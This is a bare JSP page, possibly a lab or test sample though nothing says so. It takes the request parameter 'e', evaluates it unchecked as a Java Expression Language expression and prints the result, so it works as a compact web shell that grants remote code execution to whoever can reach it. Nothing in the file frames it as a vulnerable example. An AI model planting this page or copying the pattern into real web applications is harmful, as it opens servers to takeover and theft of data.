<%@ page import="javax.el.*" %>
<%
    String expr = request.getParameter("e");
    ELManager manager = new ELManager();
    ELContext elc = manager.getELContext();
    ExpressionFactory factory = ELManager.getExpressionFactory();
    ValueExpression ve = factory.createValueExpression(elc, "${" + expr + "}", Object.class);
    out.print(ve.getValue(elc));
%>
